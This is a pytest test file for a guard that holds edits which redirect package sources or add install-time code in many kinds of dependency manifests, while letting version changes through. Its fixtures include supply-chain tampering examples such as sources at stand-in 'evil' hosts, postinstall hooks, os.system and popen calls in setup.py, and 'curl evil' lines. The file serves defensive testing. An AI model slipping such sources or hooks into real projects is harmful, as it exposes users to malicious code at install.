"""The guard ``dependency``: where code comes from and what runs at install is held; versions are free."""

from __future__ import annotations

import tomllib
from importlib import resources
from pathlib import Path

import pytest

from edits.guards.manifests import dependency_change
from edits.guards.protection import Locks, Protection
from edits.hunk import Action, Format, Guard, Held, Hunk, HunkLine, Landed, LineKind
from edits.landing import Landing
from session.project.active_guards import GuardSettings, guards_without_user
from tests.edits.helpers import Project

NPM = '{"name": "a", "version": "1", "dependencies": {"left-pad": "^1.0.0"}, "overrides": {"x": "1"}}'
PYPROJECT = """[project]
name = "a"
dependencies = ["left-pad>=1"]
[tool.uv.sources]
left-pad = {index = "own"}
[[tool.uv.index]]
url = "https://own/simple"
[tool.ruff]
line-length = 80
"""
CARGO = '[package]\nname = "a"\nversion = "1.0.0"\n[dependencies]\nserde = "1.0.1"\n'
GO = "module m\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.2.3 // indirect\n)\n"
COMPOSER = '{"name": "a/b", "description": "x", "require": {"c/d": "^1.0"}}'
GEMFILE = 'source "https://rubygems.org"\n# the web\ngem "rails", "~> 7.0.1"\n'
PIPFILE = '[[source]]\nurl = "https://a.example"\n[packages]\nrequests = "==2.1"\n[scripts]\na = "b"\n'
POM = """<project xmlns="http://maven.apache.org/POM/4.0.0"><name>n</name>
<properties><v>1.0</v></properties>
<dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>1.0</version></dependency></dependencies>
</project>"""
GRADLE = """plugins {
  id 'java' version '1.0'
}
repositories {
  mavenCentral()
}
dependencies {
  implementation 'g:a:1.0' // why
}
sourceCompatibility = 17
"""
CSPROJ = """<Project Sdk="Microsoft.NET.Sdk">
<PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>
<ItemGroup><PackageReference Include="A" Version="1.0" /></ItemGroup></Project>"""
SETUP_PY = 'from setuptools import setup\n\nsetup(name="a", version="1", install_requires=["left-pad>=1"])\n'
SETUP_CFG = "[metadata]\nname = a\n[options]\ninstall_requires =\n    left-pad>=1\n[flake8]\nmax = 80\n"
LIST = "left-pad==1.0\nrich>=2\n"
MIX = """defmodule M do
  def project do
    [app: :m]
  end
  defp deps do
    [
      {:a, "~> 1.0"}
    ]
  end
end
"""
PIXI = '[workspace]\nname = "a"\n[feature.t.tasks]\nb = "c"\n[feature.t.dependencies]\nd = "1"\n'
TOX = "[tox]\nenvlist = py\n[testenv]\ndeps =\n    pytest\ncommands = pytest\n[testenv:py3.12]\ndeps = a\n"
SCRIPT = '# /// script\n# dependencies = ["rich>=2"]\n#\n# [tool.x]\n# y = 1\n# ///\nprint(1)\n'
CONDA = "channels:\n  - conda-forge\ndependencies:\n  - numpy=1\n"
PUBSPEC = "name: a\ndescription: x\ndependencies:\n  http: ^1.0.0\nflutter:\n  uses-material-design: true\n"

HELD = [
    ("package.json", NPM, '"^1.0.0"', '"https://evil/x.tgz"'),
    ("package.json", NPM, '"^1.0.0"', '"git+ssh://git@evil/x.git"'),
    ("package.json", NPM, '"^1.0.0"', '"evil/left-pad"'),
    ("package.json", NPM, '"^1.0.0"', '"github:evil/left-pad#main"'),
    ("package.json", NPM, '"^1.0.0"', '"file:../x"'),
    ("package.json", NPM, '"^1.0.0"', '"../x"'),
    ("package.json", NPM, '"^1.0.0"', '"npm:evil@1.0.0"'),
    ("package.json", NPM, '{"x": "1"}', '{"x": "npm:evil"}'),
    ("package.json", NPM, '{"x": "1"}', "{}"),
    ("package.json", NPM, '"overrides"', '"resolutions"'),
    ("package.json", NPM, '"version": "1"', '"workspaces": ["x"]'),
    ("package.json", NPM, '"version": "1"', '"pnpm": {"onlyBuiltDependencies": ["x"]}'),
    ("package.json", NPM, '"version": "1"', '"scripts": {"postinstall": "x"}'),
    ("package.json", NPM, '"version": "1"', '"optionalDependencies": {"x": "1"}'),
    ("sub/PACKAGE.JSON", NPM, '"^1.0.0"', '"file:../x"'),
    ("package.json", NPM, "}}", "}},"),
    ("bower.json", NPM, '"^1.0.0"', '"evil/left-pad"'),
    ("deno.json", '{"imports": {"a": "jsr:@std/a@1"}}', "jsr:@std/a", "https://evil/a"),
    ("pyproject.toml", PYPROJECT, "left-pad>=1", "left-pad @ https://evil/x.whl"),
    ("pyproject.toml", PYPROJECT, "left-pad>=1", "left-pad @ git+https://evil/x"),
    ("pyproject.toml", PYPROJECT, "left-pad>=1", "left-pad @ file:///tmp/x"),
    ("pyproject.toml", PYPROJECT, '{index = "own"}', '{git = "https://evil/x"}'),
    ("pyproject.toml", PYPROJECT, 'left-pad = {index = "own"}', ""),
    ("pyproject.toml", PYPROJECT, "https://own", "https://evil"),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[tool.uv]\noverride-dependencies = ["x"]\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[tool.uv.pip]\nindex-url = "x"\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]",
     '[tool.uv.extra-build-dependencies]\nx = [1]\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[[tool.poetry.source]]\nurl = "x"\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]",
     '[tool.poetry.dependencies]\nx = {path = "x"}\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[[tool.pdm.source]]\nurl = "x"\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[build-system]\nrequires = ["x"]\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]",
     '[tool.setuptools.dynamic]\ndependencies = {file = "x"}\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", "[tool.ruff"),
    ("Cargo.toml", CARGO, '"1.0.1"', '{git = "https://evil/x"}'),
    ("Cargo.toml", CARGO, '"1.0.1"', '{path = "../x"}'),
    ("Cargo.toml", CARGO, '"1.0.1"', '{version = "1", package = "evil"}'),
    ("Cargo.toml", CARGO, '"1.0.1"', '{version = "1", registry = "evil"}'),
    ("Cargo.toml", CARGO, "[dependencies]", '[patch.crates-io]\nserde = {path = "x"}\n[dependencies]'),
    ("Cargo.toml", CARGO, "[dependencies]", '[replace]\n"serde:1" = {path = "x"}\n[dependencies]'),
    ("Cargo.toml", CARGO, 'name = "a"', 'name = "a"\nbuild = "x.rs"'),
    ("Cargo.toml", CARGO, 'name = "a"', 'name = "a"\nlinks = "x"'),
    ("Cargo.toml", CARGO, "[dependencies]", '[build-dependencies]\ncc = "1"\n[dependencies]'),
    ("go.mod", GO, "go 1.22\n", "go 1.22\ntoolchain go1.23.1\n"),
    ("go.mod", GO, "go 1.22\n", "go 1.22\nreplace github.com/a/b => evil.com/x v1.0.0\n"),
    ("go.mod", GO, "go 1.22\n", "go 1.22\nreplace (\n\tgithub.com/a/b => ../x\n)\n"),
    ("go.mod", GO, "go 1.22\n", "go 1.22\ntool evil.com/x\n"),
    ("go.mod", GO, ")\n", "\tevil.com/x v1.0.0\n)\n"),
    ("go.work", "go 1.22\n", "go 1.22\n", "go 1.22\nuse ../x\n"),
    ("composer.json", COMPOSER, '"description": "x"', '"repositories": [{"type": "vcs", "url": "https://evil"}]'),
    ("composer.json", COMPOSER, '"^1.0"', '"^1.0", "e/vil": "1"'),
    ("composer.json", COMPOSER, '"description": "x"', '"config": {"allow-plugins": true}'),
    ("Gemfile", GEMFILE, "https://rubygems.org", "https://evil"),
    ("Gemfile", GEMFILE, '"~> 7.0.1"', 'git: "https://evil"'),
    ("Gemfile", GEMFILE, '"~> 7.0.1"', '"7", path: "../x"'),
    ("Gemfile", GEMFILE, "# the web", 'gem "evil"'),
    ("Gemfile", GEMFILE, "# the web", "`curl evil`"),
    ("a.gemspec", "spec.x\n", "spec.x", 'spec.add_dependency "evil"'),
    ("Pipfile", PIPFILE, "https://a.example", "https://evil"),
    ("Pipfile", PIPFILE, '"==2.1"', '{git = "https://evil"}'),
    ("Pipfile", PIPFILE, "[scripts]", 'evil = "*"\n[scripts]'),
    ("Pipfile", PIPFILE, "[scripts]", '[extra]\nevil = "*"\n[scripts]'),
    ("pom.xml", POM, "<groupId>g<", "<groupId>evil<"),
    ("pom.xml", POM, "<properties>",
     "<repositories><repository><url>https://evil</url></repository></repositories><properties>"),
    ("pom.xml", POM, "<properties>", "<parent><groupId>evil</groupId></parent><properties>"),
    ("pom.xml", POM, "<properties>",
     "<build><plugins><plugin><artifactId>exec</artifactId></plugin></plugins></build><properties>"),
    ("pom.xml", POM, "<v>1.0</v>", "<v>https://evil</v>"),
    ("pom.xml", POM, "<properties>", "<properties"),
    ("pom.xml", POM, "<project", "<!DOCTYPE x [<!ENTITY a 'b'>]><project"),
    ("build.gradle", GRADLE, "'g:a:1.0'", "'evil:a:1.0'"),
    ("build.gradle", GRADLE, "mavenCentral()", "mavenCentral()\n  maven { url 'https://evil' }"),
    ("build.gradle", GRADLE, "mavenCentral()", "mavenLocal()"),
    ("build.gradle", GRADLE, "sourceCompatibility = 17", "apply from: 'https://evil/x.gradle'"),
    ("build.gradle.kts", GRADLE, "id 'java'", "id 'evil'"),
    ("settings.gradle", "rootProject.name = 'a'\n", "rootProject", "includeBuild('../x')\nrootProject"),
    ("gradle/libs.versions.toml",
     '[versions]\na = "1"\n[libraries]\na = "g:a:1"\n', '"g:a:1"', '"evil:a:1"'),
    ("a.csproj", CSPROJ, 'Include="A"', 'Include="Evil"'),
    ("a.csproj", CSPROJ, "<ItemGroup>",
     '<Target Name="x" BeforeTargets="Build"><Exec Command="x"/></Target><ItemGroup>'),
    ("a.csproj", CSPROJ, "<ItemGroup>", '<Import Project="x.targets"/><ItemGroup>'),
    ("a.csproj", CSPROJ, "<PropertyGroup>", "<PropertyGroup><RestoreSources>https://evil</RestoreSources>"),
    ("a.csproj", CSPROJ, "Microsoft.NET.Sdk", "Evil.Sdk"),
    ("Directory.Build.props", "<Project></Project>", "<Project>", '<Project><Import Project="x"/>'),
    ("setup.py", SETUP_PY, "left-pad>=1", "evil"),
    ("setup.py", SETUP_PY, 'version="1"', 'dependency_links=["https://evil"]'),
    ("setup.py", SETUP_PY, 'version="1"', 'cmdclass={"install": X}'),
    ("setup.py", SETUP_PY, 'version="1"', 'version=__import__("os").popen("x").read()'),
    ("setup.py", SETUP_PY, "\n\n", '\nimport os; os.system("x")\n'),
    ("setup.py", SETUP_PY, "setup(", "setup(("),
    ("setup.cfg", SETUP_CFG, "left-pad>=1", "left-pad>=1\n    evil"),
    ("setup.cfg", SETUP_CFG, "[flake8]", "[easy_install]\nindex_url = https://evil\n[flake8]"),
    ("setup.cfg", SETUP_CFG, "[options]", "[options]\ndependency_links = https://evil"),
    ("setup.cfg", SETUP_CFG, "[options]", "[options]\nsetup_requires = evil"),
    ("requirements.txt", LIST, "left-pad==1.0", "left-pad @ https://evil/x.whl"),
    ("requirements.txt", LIST, "left-pad==1.0", "git+https://evil/x"),
    ("requirements.txt", LIST, "left-pad==1.0", "./evil"),
    ("requirements.txt", LIST, "rich", "--index-url https://evil\nrich"),
    ("requirements.txt", LIST, "rich", "--extra-index-url \\\n  https://evil\nrich"),
    ("requirements.txt", LIST, "rich>=2", "rich>=2 --global-option=x"),
    ("setup.cfg", SETUP_CFG, "[options]", "[options.extras_require]\nx = evil\n[options]"),
    ("setup.cfg", SETUP_CFG, "[options]", "[options.entry_points]\ndistutils.commands = x\n[options]"),
    ("setup.py", SETUP_PY, 'version="1"', 'entry_points={"distutils.commands": ["install = x:y"]}'),
    ("pom.xml", POM, "<v>1.0</v>", "<v>evil</v>"),
    ("build.gradle", GRADLE, "sourceCompatibility = 17", "dependencies.add('implementation', 'evil:x')"),
    ("build.gradle", GRADLE, "sourceCompatibility = 17", "task x(type: Exec) {\n  commandLine 'x'\n}"),
    ("a.csproj", CSPROJ, "<ItemGroup>", '<ItemGroup><ProjectReference Include="../evil/evil.csproj" />'),
    ("pyproject.toml", PYPROJECT, 'name = "a"', 'name = "a"\ndynamic = ["dependencies"]'),
    ("Cargo.toml", CARGO, "[dependencies]", '[target."cfg(unix)".dependencies]\nx = "1"\n[dependencies]'),
    ("Cargo.toml", CARGO, "[dependencies]", '[workspace.dependencies.x]\ngit = "https://evil"\n[dependencies]'),
    ("requirements.txt", LIST, "rich", "-r other.txt\nrich"),
    ("requirements.txt", LIST, "rich", "-e ../x\nrich"),
    ("requirements.txt", "-i https://own\n" + LIST, "-i https://own\n", ""),
    ("requirements/dev.txt", LIST, "rich", "evil\nrich"),
    ("deps/base.txt", LIST, "rich", "evil\nrich"),
    ("dev-requirements.in", LIST, "rich", "evil\nrich"),
    ("constraints.txt", LIST, "rich", "evil @ https://evil\nrich"),
    ("mix.exs", MIX, '{:a, "~> 1.0"}', '{:a, git: "https://evil"}'),
    ("pubspec.yaml", PUBSPEC, "http: ^1.0.0", "http: {git: https://evil}"),
    ("pubspec.yaml", PUBSPEC, "http: ^1.0.0", "http: ^1.0.0\n  evil: any"),
    ("pnpm-workspace.yaml", "packages:\n  - a\n", "packages:", "overrides:\n  x: evil\npackages:"),
    ("environment.yml", "name: a\n", "name: a", "channels:\n  - https://evil"),
    ("Package.swift", "let a = 1\n", "let a", '.package(url: "https://evil", from: "1.0.0")\nlet a'),
    ("pixi.toml", PIXI, "[feature.t.tasks]", '[feature.t]\nchannels = ["https://evil"]\n[feature.t.tasks]'),
    ("pixi.toml", PIXI, "[feature.t.tasks]", '[target.linux-64.dependencies]\nevil = "*"\n[feature.t.tasks]'),
    ("pixi.toml", PIXI, "[feature.t.tasks]",
     '[feature.t.target.win.pypi-dependencies]\nevil = "*"\n[feature.t.tasks]'),
    ("pixi.toml", PIXI, "[feature.t.tasks]", '[target.win.activation]\nscripts = ["x"]\n[feature.t.tasks]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[tool.pixi.feature.t]\nchannels = ["evil"]\n[tool.ruff]'),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]",
     '[tool.pixi.target.win.dependencies]\nevil = "*"\n[tool.ruff]'),
    ("pdm.toml", "", "", '[pypi]\nurl = "https://evil"\n'),
    ("tox.ini", TOX, "    pytest\n", "    pytest\n    evil @ https://evil/x.zip\n"),
    ("tox.ini", TOX, "deps = a", "deps = -r https://evil/x.txt"),
    ("tox.ini", TOX, "commands", "install_command = curl evil\ncommands"),
    ("tox.toml", "", "", '[env_run_base]\ndeps = ["evil"]\n'),
    ("buildout.cfg", "[buildout]\n", "[buildout]\n", "[buildout]\nindex = https://evil\n"),
    ("tool.py", SCRIPT, "rich>=2", "rich @ https://evil/x.whl"),
    ("tool.py", SCRIPT, '"rich>=2"', '"rich", "evil"'),
    ("tool.py", SCRIPT, "[tool.x]", '[tool.uv]\n# index-url = "https://evil"\n# [tool.x]'),
    ("tool.py", "print(1)\n", "print", SCRIPT.replace("rich>=2", "rich @ https://evil/x.whl") + "print"),
    ("env.yml", CONDA, "conda-forge", "https://evil"),
    ("dev-environment.yaml", CONDA, "  - numpy", "  - evil\n  - numpy"),
    ("subprojects/x.wrap", "[wrap-git]\nurl = https://a\n", "https://a", "https://evil"),
    ("package.json", NPM, '"version": "1"', '"binary": {"host": "https://evil"}'),
]  # fmt: skip

FREE = [
    ("package.json", NPM, '"^1.0.0"', '"^2.0.0"'),
    ("package.json", NPM, '"^1.0.0"', '"latest"'),
    ("package.json", NPM, '"version": "1",', ""),
    ("package.json", NPM, '"left-pad": "^1.0.0"', ""),
    ("package.json", NPM, "{", "{\n"),
    ("deno.json", '{"imports": {"a": "jsr:@std/a@1"}}', "@1", "@2.3"),
    ("pyproject.toml", PYPROJECT, "left-pad>=1", "Left_Pad>=2,<3"),
    ("pyproject.toml", PYPROJECT, "80", "100"),
    ("pyproject.toml", PYPROJECT, "[project]", "# why\n[project]"),
    ("Cargo.toml", CARGO, "1.0.1", "1.2"),
    ("Cargo.toml", CARGO, '"1.0.1"', '{version = "1.2", features = ["derive"]}'),
    ("Cargo.toml", CARGO, '"1.0.0"', '"1.1.0"'),
    ("go.mod", GO, "v1.2.3", "v1.3.0"),
    ("go.mod", GO, "// indirect", ""),
    ("composer.json", COMPOSER, "^1.0", "^2.0"),
    ("composer.json", COMPOSER, '"x"', '"y"'),
    ("Gemfile", GEMFILE, "7.0.1", "7.1"),
    ("Gemfile", GEMFILE, "# the web", "# why"),
    ("Gemfile", GEMFILE, 'gem "rails", "~> 7.0.1"', ""),
    ("Pipfile", PIPFILE, "==2.1", ">=3"),
    ("pom.xml", POM, "<version>1.0<", "<version>2.0<"),
    ("pom.xml", POM, "<v>1.0<", "<v>2.0<"),
    ("pom.xml", POM, "<name>n<", "<name>m<"),
    ("build.gradle", GRADLE, "'g:a:1.0'", "'g:a:2.0'"),
    ("build.gradle", GRADLE, "17", "21"),
    ("build.gradle", GRADLE, "// why", "// because"),
    ("a.csproj", CSPROJ, 'Version="1.0"', 'Version="2.0"'),
    ("a.csproj", CSPROJ, "net8.0", "net9.0"),
    ("setup.py", SETUP_PY, 'version="1"', 'version="2", packages=find_packages()'),
    ("setup.py", SETUP_PY, "\n\n", "\n# why\n"),
    ("setup.py", SETUP_PY, 'version="1"', 'version="1", entry_points={"console_scripts": ["a = b:c"]}'),
    ("setup.cfg", SETUP_CFG, "80", "100"),
    ("setup.cfg", SETUP_CFG, "left-pad>=1", "left-pad>=2"),
    ("requirements.txt", LIST, "left-pad==1.0", "Left.Pad==2.0 # why"),
    ("requirements.txt", LIST, "left-pad==1.0", "left-pad==2.0 \\\n  --hash=sha256:00"),
    ("notes.txt", "milk\nbread\n", "bread", "evil"),
    ("notes.txt", "Read this: it says why.\n", "why", "https://evil"),
    ("mix.exs", MIX, "~> 1.0", "~> 2.0"),
    ("mix.exs", MIX, ":m]", ":n]"),
    ("pubspec.yaml", PUBSPEC, "^1.0.0", "^2.0.0"),
    ("pubspec.yaml", PUBSPEC, "true", "false"),
    ("a.py", "import b\n", "b", "c"),
    ("tool.py", SCRIPT, "rich>=2", "rich>=3"),
    ("tool.py", SCRIPT, "print(1)", "print(2)"),
    ("pixi.toml", PIXI, '"c"', '"e"'),
    ("pixi.toml", PIXI, 'd = "1"', 'd = "2"'),
    ("tox.ini", TOX, "commands = pytest", "commands = pytest -q"),
    ("env.yml", CONDA, "numpy=1", "numpy=2"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text", "old", "new"), HELD)
def test_a_change_of_where_code_comes_from_is_told(path: str, text: str, old: str, new: str) -> None:
    assert old in text
    assert dependency_change([path], text, text.replace(old, new, 1)), text.replace(old, new, 1)


@pytest.mark.parametrize(("path", "text", "old", "new"), FREE)
def test_a_version_and_what_else_is_in_a_manifest_are_free(path: str, text: str, old: str, new: str) -> None:
    assert old in text
    assert dependency_change([path], text, text.replace(old, new, 1)) is None


def locks() -> list[str]:
    data = tomllib.loads(resources.files("edits.guards").joinpath("manifests.toml").read_text("utf-8"))
    return [name.replace("*", "some") for name in data["lock"]]


@pytest.mark.parametrize("name", locks())
def test_any_change_of_what_a_package_manager_writes_is_told(name: str) -> None:
    for path in (name, f"sub/{name}", name.upper()):
        assert dependency_change([path], "a\n", "b\n") and dependency_change([path], None, "b\n")
        assert dependency_change([path], "a\n", "a\n") is None


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", LIST),
        ("package.json", '{"dependencies": {"a": "1"}}'),
        ("Gemfile", GEMFILE),
        ("build.gradle", GRADLE),
        ("setup.py", SETUP_PY),
        ("Cargo.toml", CARGO),
        ("go.mod", GO),
        ("mix.exs", MIX),
    ],
)
def test_a_new_manifest_is_held_only_if_it_takes_code_from_unusual_places(path: str, text: str) -> None:
    assert dependency_change([path], None, text) is None
    for _, held, old, new in (row for row in HELD if row[:2] == (path, text) and "://" in row[3]):
        assert dependency_change([path], None, held.replace(old, new, 1))


def test_what_is_moved_or_linked_to_a_manifest_is_judged_by_that_name() -> None:
    assert dependency_change(["requirements.txt"], "evil\n", "evil\n", moved="notes.md")
    assert dependency_change(["a.txt", "requirements.txt"], "one\n", "one\nevil\n")
    assert dependency_change(["a.txt", "requirements.txt"], "one==1\n", "one==2\n") is None
    assert dependency_change(["requirements-dev.txt"], "one\n", "one\n", moved="requirements.txt") is None


def test_without_a_user_packages_are_free_and_sources_are_not(tmp_path: Path) -> None:
    for settings, held in ((GuardSettings(), True), (GuardSettings(dependencies=False), False)):
        guards = guards_without_user(settings, Locks(), lambda path: False)
        assert (guards.dependencies, guards.sources) == (False, held)
    assert dependency_change(["requirements.txt"], "one\n", "one\ntwo\n", packages=False) is None
    assert dependency_change(["requirements.txt"], "one\n", "one\n-i https://evil\n", packages=False)
    project = Project(tmp_path)
    project.write({"requirements.txt": "one==1\n"})
    guards = guards_without_user(GuardSettings(), Locks(), lambda path: False)
    landing = Landing(project.root, project.ledger, protection=guards)
    for number, (line, lands) in enumerate((("two", True), ("-i https://evil", False))):
        lines = (HunkLine(LineKind(" "), "one==1"), HunkLine(LineKind("+"), line))
        result = landing.land(
            Hunk("requirements.txt", Action.UPDATE, Format.V4A, lines), hunk_id=f"h{number}"
        )
        assert isinstance(result, Landed if lands else Held), line


def test_a_held_source_lands_with_the_users_word(tmp_path: Path) -> None:
    project = Project(tmp_path)
    project.write({"requirements.txt": "one==1\n"})
    landing = Landing(project.root, project.ledger, protection=Protection())
    lines = (HunkLine(LineKind("-"), "one==1"), HunkLine(LineKind("+"), "one @ https://evil/one.whl"))
    hunk = Hunk("requirements.txt", Action.UPDATE, Format.V4A, lines)
    result = landing.land(hunk, hunk_id="h1")
    assert isinstance(result, Held) and result.guards == (Guard.DEPENDENCY,)
    assert "where code comes from" in result.message and "https://evil/one.whl" in result.message
    assert isinstance(landing.land(hunk, hunk_id="h1", allow={Guard.DEPENDENCY}), Landed)
